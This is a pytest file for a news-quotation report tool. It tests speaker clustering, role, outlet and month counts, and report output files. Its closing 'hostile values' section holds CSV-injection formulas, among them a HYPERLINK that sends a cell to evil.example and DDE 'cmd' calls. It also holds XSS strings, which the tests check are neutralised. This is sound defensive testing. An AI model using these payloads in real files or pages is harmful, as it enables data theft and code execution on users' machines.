"""``indoquote report``: speakers clustered per article, roles, outlets, months, shares; the files it writes."""

from __future__ import annotations

import csv
import re

import pandas as pd
import pytest

from indoquote.archive.engines import TaggerSpec, tag_archive
from indoquote.archive.render import html, markdown, write_csvs
from indoquote.archive.report import ReportOptions, build_report, link_names, name_key, write_report
from indoquote.cli.report import report_cli

from archive_data import articles, write_parquet

Q = ("article_id", "outlet", "date", "quote_index", "speaker", "role", "affiliation")


def table(rows: list[tuple]) -> pd.DataFrame:
    return pd.DataFrame(rows, columns=list(Q))


ARCHIVE = table(
    [
        ("a1", "ANTARA", "2021-01-05", 0, "Joko Widodo", "Presiden", None),
        ("a1", "ANTARA", "2021-01-05", 1, "Widodo", None, None),  # the one longer Widodo of a1
        ("a1", "ANTARA", "2021-01-05", 2, "Retno Marsudi", "Menteri Luar Negeri", "Kemlu"),
        ("a2", "Kompas", "2021-01-20", 0, "Widodo", None, None),  # here Widodo is Sutrisno Widodo
        ("a2", "Kompas", "2021-01-20", 1, "Sutrisno Widodo", "Kepala Dinas", "Pemkot Bogor"),
        ("a3", "Kompas", "2021-02-03", 0, "Widodo", None, None),  # no longer name here: stays Widodo
        ("a4", "Tempo", "2021-02-10", 0, "Jokowi", "Presiden", None),  # an alias sharing no word: not merged
        ("a5", "Tempo", "2021-02-11", None, None, None, None),  # no quotation
        ("a6", "ANTARA", "2021-03-01T00:30:00+07:00", 0, "Widodo", None, None),  # two Widodos: ambiguous
        ("a6", "ANTARA", "2021-03-01T00:30:00+07:00", 1, "Joko Widodo", "Presiden, Kepala Negara", None),
        ("a6", "ANTARA", "2021-03-01T00:30:00+07:00", 2, "Agus Widodo", None, "DPR"),
        ("a7", "Tempo", None, 0, None, None, None),  # a quotation nobody is credited with
        ("a8", None, "2021-03-09", 0, "joko  widodo", "presiden", None),  # same name, other spelling
    ]
)


def test_name_keys_and_links_within_an_article():
    assert name_key("  Joko   Widodo, ") == name_key("joko widodo") == "joko widodo"
    assert link_names(["widodo", "joko widodo", "retno"]) == {"widodo": "joko widodo", "joko widodo": "joko widodo",
                                                              "retno": "retno"}
    assert link_names(["widodo", "joko widodo", "agus widodo"])["widodo"] == "widodo"  # two people: no link
    chain = link_names(["widodo", "joko widodo", "ir h joko widodo"])
    assert set(chain.values()) == {"ir h joko widodo"}  # all one person, the fullest name


def test_speakers_are_clustered_per_article():
    report = build_report(ARCHIVE)
    speakers = {r[0]: r for r in report.tables["speakers"].rows}
    assert {k: v[1] for k, v in speakers.items()} == {
        "Joko Widodo": 4, "Sutrisno Widodo": 2, "Widodo": 2, "Retno Marsudi": 1, "Jokowi": 1, "Agus Widodo": 1}
    top = report.tables["speakers"].rows[0]
    header = report.tables["speakers"].header
    row = dict(zip(header, top))
    assert row["speaker"] == "Joko Widodo" and row["articles"] == 3 and row["role"] == "Presiden"
    assert row["also written"] == "Widodo, joko widodo" and row["outlets"] == 1
    assert (row["first month"], row["last month"]) == ("2021-01", "2021-03")
    assert row["% of attributed"] == round(100 * 4 / 11, 1)


def test_each_speaker_shows_the_role_forms_merged():
    merged = ARCHIVE.assign(role_forms=None)
    merged.loc[merged["speaker"] == "Retno Marsudi", "role_forms"] = "Menteri Luar Negeri | Menlu"
    rows = build_report(merged).tables["speakers"]
    by_name = {r[0]: dict(zip(rows.header, r)) for r in rows.rows}
    assert by_name["Retno Marsudi"]["role forms merged"] == "Menteri Luar Negeri | Menlu"
    assert by_name["Joko Widodo"]["role forms merged"] == "Presiden | Kepala Negara"  # "presiden" is the same form
    assert by_name["Agus Widodo"]["role forms merged"] is None
    assert build_report(ARCHIVE).tables["speakers"].rows  # an output written before role_forms existed


def test_roles_affiliations_outlets_months_and_shares():
    report = build_report(ARCHIVE)
    roles = {r[0]: r[1:] for r in report.tables["roles"].rows}
    assert roles["Presiden"] == [4, 2]  # "presiden" counted with it; Jokowi and Joko Widodo two people
    assert roles["Kepala Negara"] == [1, 1]  # "Presiden, Kepala Negara" is two titles
    assert {r[0] for r in report.tables["affiliations"].rows} == {"Kemlu", "Pemkot Bogor", "DPR"}
    outlets = {r[0]: r[1:] for r in report.tables["outlets"].rows}
    # articles, with a quotation, %, quotations, per article, % attributed
    assert outlets["ANTARA"] == [2, 2, 100.0, 6, 3.0, 100.0]
    assert outlets["Tempo"] == [3, 2, 66.7, 2, 0.67, 50.0]
    assert outlets["(none)"][:2] == [1, 1]
    months = {r[0]: r[1:] for r in report.tables["months"].rows}
    assert list(months) == ["(none)", "2021-01", "2021-02", "2021-03"]
    assert months["2021-03"][:2] == [2, 2]  # 00:30 at +07:00 is still March where it was written
    summary = dict((r[0], r[1]) for r in report.tables["summary"].rows)
    assert summary["articles"] == 8 and summary["articles with at least one quotation"] == 7
    assert summary["share of articles with a quotation (%)"] == 87.5 and summary["quotations"] == 12


def test_without_outlet_or_date_columns():
    report = build_report(ARCHIVE.drop(columns=["outlet", "date"]))
    assert "outlets" not in report.tables and "months" not in report.tables
    assert len(report.notes) == 2 and "--outlet-column" in report.notes[0]
    with pytest.raises(ValueError, match="--date-column 'day'"):
        build_report(ARCHIVE, ReportOptions(date_column="day"))
    other = ARCHIVE.rename(columns={"outlet": "source", "date": "published_at"})
    assert {"outlets", "months"} <= set(build_report(other).tables)


def test_report_files_from_a_predict_output(tmp_path, tiny_checkpoint, capsys):
    path = write_parquet(articles(40), tmp_path / "a.parquet", row_group_size=10)
    tag_archive([path], tmp_path / "out", TaggerSpec(str(tiny_checkpoint)), shard_rows=10)
    assert report_cli([str(tmp_path / "out"), "-o", str(tmp_path / "rep")]) == 0
    rep = tmp_path / "rep"
    assert {p.name for p in rep.glob("*.csv")} == {f"{n}.csv" for n in
                                                   ("summary", "speakers", "roles", "affiliations", "outlets", "months",
                                                    "repeated_quotations", "syndication", "syndicated_speakers",
                                                    "name_merges", "identities")}
    assert {p.name for p in rep.glob("*.parquet")} == {"quote_identity.parquet", "identities.parquet",
                                                       "quote_clusters.parquet"}
    with open(rep / "summary.csv", encoding="utf-8") as f:
        summary = dict(list(csv.reader(f))[1:])
    assert summary["articles"] == "40"
    page = (rep / "report.html").read_text(encoding="utf-8")
    assert "data:image/png;base64," in page and "src='http" not in page and "<script" not in page
    md = (rep / "report.md").read_text(encoding="utf-8")
    assert "## Quotations per month" in md and "(charts/months.png)" in md
    for png in (rep / "charts").glob("*.png"):
        assert png.read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"
    assert "report.html" in capsys.readouterr().err


def test_report_of_jsonl_shards(tmp_path, tiny_checkpoint):
    path = write_parquet(articles(12), tmp_path / "a.parquet")
    tag_archive([path], tmp_path / "out", TaggerSpec(str(tiny_checkpoint)), output_format="jsonl")
    report = write_report(tmp_path / "out", tmp_path / "rep")
    assert dict((r[0], r[1]) for r in report.tables["summary"].rows)["articles"] == 12
    assert "months" in report.tables  # ISO strings in JSONL shards


def test_report_of_no_output_is_a_clean_error(tmp_path, capsys):
    assert report_cli([str(tmp_path), "-o", str(tmp_path / "rep")]) == 2
    assert "no _manifest.json" in capsys.readouterr().err


def test_kinds_are_counted_when_the_table_has_them():
    with_kind = ARCHIVE.assign(kind=["direct"] * 9 + ["indirect"] * 2 + [None] * 2)
    summary = dict((r[0], r[1]) for r in build_report(with_kind).tables["summary"].rows)
    assert summary["  direct quotations"] == 8 and summary["  indirect quotations"] == 2  # row 8 (a5) has no quotation
    assert "  direct quotations" not in dict((r[0], r[1]) for r in build_report(ARCHIVE).tables["summary"].rows)


def test_a_word_the_tagger_read_as_a_name_is_not_counted_as_a_speaker():
    """``Kemarahannya`` ("her anger") has no ``speaker_id``: the report counts its quotation as one without a
    speaker, not as a person."""
    from indoquote.archive.identity_pass import annotate

    odd = pd.concat([ARCHIVE, table([("a9", "Tempo", "2021-03-10", 0, "Kemarahannya", None, None)])])
    annotated, ids = annotate(odd.reset_index(drop=True).assign(quote="Saya marah sekali"))
    summary = dict((r[0], r[1]) for r in build_report(annotated, identities=ids).tables["summary"].rows)
    plain = dict((r[0], r[1]) for r in build_report(annotate(ARCHIVE.assign(quote="Saya"))[0]).tables["summary"].rows)
    assert summary["quotations"] == plain["quotations"] + 1
    assert summary["quotations with a speaker"] == plain["quotations with a speaker"]
    speakers = build_report(annotated, identities=ids).tables["speakers"].rows
    assert not any("Kemarahannya" in str(r[0]) for r in speakers)


# ------------------------------------------------------------------ hostile values (issue 31)

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
"""What a spreadsheet takes for a formula (OWASP, CSV injection)."""
HOSTILE = {
    "=": '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
    "+": "+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t": "\t=1+1",
    "\r": "\r=1+1",
}


def archive_with(value: str) -> pd.DataFrame:
    """A quotation table whose outlet, speaker, role and affiliation all carry ``value``."""
    cols = ("article_id", "outlet", "date", "quote_index", "speaker", "role", "affiliation")
    return pd.DataFrame([("a1", value, "2021-01-05", 0, value, value, value),
                         ("a2", "ANTARA", "2021-01-06", 0, "Retno Marsudi", "Menteri", "Kemlu")], columns=list(cols))


@pytest.mark.parametrize("start", FORMULA_START)
def test_every_formula_character_is_neutralised_in_every_report_csv(tmp_path, start):
    value = HOSTILE[start]
    report = build_report(archive_with(value))
    paths = write_csvs(report, tmp_path)
    seen = 0
    for path in paths:
        for row in csv.reader(path.open(encoding="utf-8", newline="")):
            for c in row:
                assert not c.startswith(FORMULA_START), (path.name, c)
                seen += c.startswith("'") and value.strip() in c
    assert seen >= 4  # speaker, role, affiliation, outlet: kept, as text


def test_markdown_report_shows_html_and_links_as_text():
    df = archive_with('<img src=x onerror="alert(1)"> [x](javascript:alert(1))')
    text = markdown(build_report(df), source="out`<b>")
    assert "<" not in text.replace("&lt;", "") and not re.search(r"(?<!\\)\]\(javascript:", text)  # no link


def test_report_html_has_a_content_security_policy_and_escapes():
    df = archive_with("<script>alert(1)</script>' onmouseover='alert(1)")
    page = html(build_report(df, title="<b>t</b>"), source="<i>")
    assert 'http-equiv="Content-Security-Policy"' in page and "script-src" not in page and "default-src 'none'" in page
    assert "<script>" not in page and "<b>t</b>" not in page and "onmouseover='" not in page
